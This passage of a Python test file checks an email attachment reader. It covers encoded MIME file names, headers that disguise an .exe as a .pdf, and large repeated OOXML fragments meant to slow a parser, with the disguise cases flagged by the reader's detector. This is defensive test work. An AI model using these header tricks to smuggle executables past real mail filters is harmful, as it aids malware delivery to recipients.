    [
        ("Content-Type: application/pdf\nContent-Disposition: attachment; filename*=utf-8''relev%C3%A9.pdf", "relevé.pdf", "ok"),
        ("Content-Type: application/pdf; name=\"=?utf-8?Q?relev=C3=A9.pdf?=\"\nContent-Disposition: attachment", "relevé.pdf", "ok"),
        ("Content-Type: application/pdf; name=relev=?iso-8859-1?Q?=E9?=.pdf\nContent-Disposition: attachment", "relevé.pdf", "ok"),
        ("Content-Type: application/pdf; name=a.pdf\nContent-Disposition: attachment; filename=b.pdf", "b.pdf", "ok"),
        ("Content-Type: application/pdf; name=a.exe\nContent-Disposition: attachment; filename=b.pdf", "b.pdf", "disguised"),
        ("Content-Type: application/pdf\nContent-Disposition: attachment; filename=b.pdf; filename*=utf-8''b.exe", "", "disguised"),
        ("Content-Type: application/pdf\nContent-Disposition: attachment; filename=b.pdf; filename=b.exe", "", "disguised"),
        ("Content-Type: application/pdf\nContent-Disposition: attachment; filename=\"C:\\Users\\cd\\bilan.pdf\"", "bilan.pdf", "ok"),
        ("Content-Type: application/pdf\nContent-Disposition: attachment; filename*0=\"bi\"; filename*1=\"lan.pdf\"", "bilan.pdf", "ok"),
        ("Content-Type: application/pdf\nContent-Disposition: attachment; filename*0*=iso-8859-1''relev%E9;\n filename*1=\".pdf\"", "relevé.pdf", "ok"),
        ("Content-Type: APPLICATION/PDF; NAME=BILAN.PDF\nCONTENT-DISPOSITION: ATTACHMENT", "BILAN.PDF", "ok"),
        ("Content-Type: application/pdf;\n\tname=\"=?utf-8?B?cmVsZQ==?=\n =?utf-8?B?dsOpLnBkZg==?=\"\nContent-Disposition: inline", "relevé.pdf", "ok"),
    ],
)  # fmt: skip
def test_a_name_as_programs_write_it(head: str, name: str, verdict: str) -> None:
    found = read(with_file(File("", pdf(), head=head)))["attachments"]
    assert [attached["verdict"] for attached in found] == [verdict]
    assert not name or found[0]["name"] == name


@pytest.mark.slow
@pytest.mark.parametrize(
    "piece",
    [b"<Relationship ", b'<Relationship Id="r" TargetMode="External" Target="http://x"/>', b"<w:instrText", b"<!"],
)
def test_much_of_anything_in_a_document_takes_no_time(piece: bytes) -> None:
    full = piece * (900_000 // len(piece))
    document = ooxml("docx", {f"word/_rels/a{n}.xml.rels" if n < 5 else f"word/a{n}.xml": full for n in range(16)})
    began = time.process_time()
    read(with_file(File("a.docx", document)))
    assert time.process_time() - began < 2


def test_a_message_as_a_file_is_no_text() -> None:
    inside = "Content-Type: message/rfc822\n\nFrom: x@y.example\nSubject: Fwd\n\nOui, je valide.\n"
    found = read(mail(several(text("Voir le mail joint, 1 250 €."), inside)))
    assert found["text"] == "Voir le mail joint, 1 250 €."
    assert [(a["type"], a["verdict"] == "ok") for a in found["attachments"]] == [("message/rfc822", False)]


def test_the_relation_type_is_written_as_word_writes_it() -> None:
    """The builder's own shape: what the rows above lean on."""
    assert re.search(rf'Type="{RELS}/oleObject" Target="x"', relations(("oleObject", "x"), external=True))
    assert part(File("a.pdf", b"x")).startswith("Content-Type: application/octet-stream; name=")
